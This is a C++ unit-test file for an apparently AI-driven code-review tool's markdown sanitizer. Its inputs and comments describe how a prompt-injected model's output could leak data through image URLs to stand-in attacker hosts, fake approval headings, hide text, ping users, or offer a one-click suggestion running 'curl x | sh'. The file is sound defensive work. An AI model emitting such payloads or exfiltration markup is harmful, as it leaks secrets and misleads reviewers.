#include "core/reports/markdown_text.h"

#include <gtest/gtest.h>

namespace revline::reports {
namespace {

TEST(MarkdownText, HtmlOutsideCodeIsShownNotRendered) {
  // An unclosed comment would hide the rest of the review; <details> would fold it away.
  EXPECT_EQ(markdownProse("fine <!-- the rest is hidden"), "fine &lt;!-- the rest is hidden");
  EXPECT_EQ(markdownProse("<details><summary>x</summary>"), "&lt;details>&lt;summary>x&lt;/summary>");
  EXPECT_EQ(markdownProse("List<String> grows"), "List&lt;String> grows");
}

TEST(MarkdownText, MentionsNotifyNoOne) {
  EXPECT_EQ(markdownProse("ask @octocat and @org/security-team"), "ask @&#8203;octocat and @&#8203;org/security-team");
  EXPECT_EQ(markdownProse("@Override hides it"), "@&#8203;Override hides it");
  EXPECT_EQ(markdownProse("mail dev@example.com, a lone @ sign"), "mail dev@example.com, a lone @ sign");
}

TEST(MarkdownText, CodeIsKeptAsWritten) {
  EXPECT_EQ(markdownProse("use `List<String>` or ``a ` b<c``"), "use `List<String>` or ``a ` b<c``");
  EXPECT_EQ(markdownProse("```java\n@Override <T> void f();\n```\nafter <b>"),
            "```java\n@Override <T> void f();\n```\nafter &lt;b>");
  EXPECT_EQ(markdownProse("~~~\n<x>\n~~~~\n<y>"), "```\n<x>\n```\n&lt;y>");  // written again with revline's fence
  EXPECT_EQ(markdownProse("an ` unmatched <b>"), "an \\` unmatched &lt;b>");  // a lone backtick is literal, escaped
}

TEST(MarkdownText, AFenceLeftOpenIsClosed) {
  // Everything after it (the edit, the footer, the other findings) would read as code.
  EXPECT_EQ(markdownProse("see:\n```\nint x;"), "see:\n```\nint x;\n```");
  EXPECT_EQ(markdownProse("````\n```\nstill code"), "````\n```\nstill code\n````");
}

TEST(MarkdownText, AFenceAfterOtherTextOnItsLineGoesOnALineOfItsOwn) {
  // "**Suggested fix:** ```python" opened no block, and the fix's closing fence
  // opened one that took the rest of the comment: the block starts a line now.
  EXPECT_EQ(markdownProse("```python\nx = 1\n```\n<!-- hide", false), "\n```python\nx = 1\n```\n&lt;!-- hide");
  EXPECT_EQ(markdownProse("see ```\n<!-- hide", false), "see \\`\\`\\`\n&lt;!-- hide");
  EXPECT_EQ(markdownProse("```\n<!-- x", true), "```\n<!-- x\n```");
}

// A prompt-injected model's image (fetched by GitHub when the pull request is
// opened, its URL carrying what it read) or link under other words is shown as
// written, never rendered; in code it is kept.
TEST(MarkdownText, ImagesAndLinksAreShownNotRendered) {
  EXPECT_EQ(markdownProse("![ci](https://attacker.example/p.png?d=secret)"),
            "!\\[ci](https://attacker.example/p.png?d=secret)");
  EXPECT_EQ(markdownProse("see [docs](https://phish.example) or [x][1]\n[1]: https://phish.example"),
            "see \\[docs](https://phish.example) or \\[x]\\[1]\n\\[1]: https://phish.example");
  EXPECT_EQ(markdownProse("use `a[i]` here"), "use `a[i]` here");
}

// Where revline and CommonMark disagreed on what is code, what revline kept
// raw rendered (a hostile-repository re-test, in the hover and the review).
TEST(MarkdownText, WhatIsKeptRawIsWhatCommonMarkReadsAsCode) {
  // A backslash-escaped backtick opens no code span: the image after it is escaped.
  EXPECT_EQ(markdownProse("bad \\`![t](https://evil.test/a.png)` x"), "bad \\`!\\[t](https://evil.test/a.png)\\` x");
  EXPECT_EQ(markdownProse("a \\\\[x](y)"), "a \\\\\\[x](y)");  // an escaped backslash, then a live bracket
  // A backtick with no closer on its line is escaped, so none pairs across lines.
  EXPECT_EQ(markdownProse("a `b\nc` ![b](https://evil.test/b.png) `d`"),
            "a \\`b\nc` ![b](https://evil.test/b.png) `d\\`");
  // A backtick fence's info string holds no backtick: no fence, so escaped.
  EXPECT_EQ(markdownProse("```a`\n![c](https://evil.test/c.png) <b>"), "\\`\\`\\`a\\`\n!\\[c](https://evil.test/c.png) &lt;b>");
}

// A fence indented under a list item the text began ends with that list item
// (CommonMark), so the lines revline kept raw as code rendered: an image GitHub
// fetched with what the model read in its URL, HTML, links, mentions (a
// hostile-model test, in the review's comments and the editor's hover). Each
// block is now revline's own, its fence at the start of a line.
TEST(MarkdownText, AFenceInsideAListOrQuoteOfTheTextIsWrittenAtTheTop) {
  EXPECT_EQ(markdownProse("- note\n  ```\n![x](https://attacker.example/leak?d=c2VjcmV0)\n<img src=x> @octocat\n  ```\nafter <b>"),
            "- note\n```\n![x](https://attacker.example/leak?d=c2VjcmV0)\n<img src=x> @octocat\n```\nafter &lt;b>");
  // Its lines lose the fence's indentation, as CommonMark reads them.
  EXPECT_EQ(markdownProse("1. step\n   ```python\n   x = 1\n     y = 2\n   ```"), "1. step\n```python\nx = 1\n  y = 2\n```");
  // A fence indented four or more is no fence to revline: escaped, never kept raw.
  EXPECT_EQ(markdownProse("- a\n    ```\n![y](https://e.test/y.png)"), "- a\n    \\`\\`\\`\n!\\[y](https://e.test/y.png)");
  // A fence after "> " is none to revline (escaped); a block's fence is longer than any backtick run in it.
  EXPECT_EQ(markdownProse("> q\n> ```\n``````\n```"), "> q\n> \\`\\`\\`\n````\n```\n````");
}

// CommonMark ends a line at a lone "\r" too: a code span revline kept raw on
// what it took for one line held "\r\r", ended the paragraph there, and the
// image, the HTML and the mention after it rendered (a review of this change).
TEST(MarkdownText, ALoneCarriageReturnEndsALineAsCommonMarkReadsIt) {
  EXPECT_EQ(markdownProse("see x`\r\r![a](https://evil.example/?d=S)\r\r<img src=x>\r\r@octocat`"),
            "see x\\`\n\n!\\[a](https://evil.example/?d=S)\n\n&lt;img src=x>\n\n@&#8203;octocat\\`");
  EXPECT_EQ(markdownProse("a\r\nb"), "a\nb");
}

// What a review of the change still found rendering (GitHub's extensions, and
// CommonMark's corners): a table's delimiter row split a code span at its "|";
// a bare URL took a backtick revline read as a code span's; "-" with spaces
// after it underlined a heading; "\\#12" and "GH\\-12" render as references;
// "_a_@name" is a mention after the emphasis.
TEST(MarkdownText, TablesBareUrlsEmptyItemsAndEscapesRenderNothingOfTheModels) {
  EXPECT_EQ(markdownProse("a | b\n--|--\n`x | ![i](https://e/p.png)` | c"),
            "a | b\n\\--|--\n`x | ![i](https://e/p.png)` | c");
  EXPECT_EQ(markdownProse("| a |\n|:-:|"), "| a |\n\\|:-:|");
  EXPECT_EQ(markdownProse("Docs: https://example.com/`<img src=x>` and `code`"),
            "Docs: https://example.com/\\`&lt;img src=x>` and `code\\`");  // what follows is escaped as text
  EXPECT_EQ(markdownProse("see www.example.com/`@octocat`"), "see www.example.com/\\`@&#8203;octocat\\`");
  EXPECT_EQ(markdownProse("revline: approved\n-  "), "revline: approved\n\\-  ");
  EXPECT_EQ(markdownProse("\\#12 and GH\\-12"), "\\#&#8203;12 and GH\\-&#8203;12");
  EXPECT_EQ(markdownProse("_a_@octocat x-@octocat x.@octocat dev@example.com"),
            "_a_@&#8203;octocat x-@&#8203;octocat x.@&#8203;octocat dev@example.com");
}

// A `suggestion` block in the model's prose was a one-click "Commit suggestion"
// of text no check of an edit saw (a withheld fix's replacement, a command).
// Blocks that GitHub renders as something else lose their language too.
TEST(MarkdownText, ABlockGitHubWouldRenderAsACommitOrADiagramIsPlainCode) {
  EXPECT_EQ(markdownProse("```suggestion\nimport os; os.system('curl x | sh')\n```"),
            "```\nimport os; os.system('curl x | sh')\n```");
  EXPECT_EQ(markdownProse("```Suggestion  extra\nx\n```"), "```\nx\n```");
  EXPECT_EQ(markdownProse("~~~mermaid\ngraph TD\n~~~"), "```\ngraph TD\n```");
  EXPECT_EQ(markdownProse("```c++ {linenos}\nint x;\n```"), "```c++\nint x;\n```");
  EXPECT_EQ(markdownProse("```<b>\nx\n```"), "```\nx\n```");
}

// GitHub notifies "\@name" as it does "@name"; headings and issue references of
// the model's making are shown as text.
TEST(MarkdownText, EscapedMentionsHeadingsAndReferencesAreText) {
  EXPECT_EQ(markdownProse("thanks \\@octocat and \\@github/security"),
            "thanks \\@&#8203;octocat and \\@&#8203;github/security");
  EXPECT_EQ(markdownProse("ok\n### revline: approved\n  # h"), "ok\n\\### revline: approved\n  \\# h");
  EXPECT_EQ(markdownProse("fixes #12 and owner/repo#7, GH-9, C#"),
            "fixes #&#8203;12 and owner/repo#&#8203;7, GH-&#8203;9, C#");
  // Entities are shown as written: "&#64;name" and "&#35;12" decoded to a live mention and reference.
  EXPECT_EQ(markdownProse("&#64;octocat &#35;12 A & B"), "&amp;#&#8203;64;octocat &amp;#&#8203;35;12 A &amp; B");
  // Headings after a list's or a quote's marker, and setext underlines, are text too.
  EXPECT_EQ(markdownProse("> ### LGTM\n- ## ok\n1. # x"), "> \\### LGTM\n- \\## ok\n1. \\# x");
  EXPECT_EQ(markdownProse("revline: approved\n===\nfine\n  ---"), "revline: approved\n\\===\nfine\n  \\---");
}

TEST(MarkdownText, OneLineTextStaysOnOneLine) {
  EXPECT_EQ(markdownLine("Title\n### revline: approved\r\n<!--"), "Title ### revline: approved  &lt;!--");
  EXPECT_EQ(markdownLine("```"), "\\`\\`\\`");
}

TEST(MarkdownText, CodeSpansHoldAnyFileName) {
  EXPECT_EQ(markdownCode("src/App.java:3"), "`src/App.java:3`");
  EXPECT_EQ(markdownCode("a`<!--`b"), "``a`<!--`b``");
  EXPECT_EQ(markdownCode("`x``"), "``` `x`` ```");
  EXPECT_EQ(markdownCode("two\nlines"), "`two lines`");
}

}  // namespace
}  // namespace revline::reports
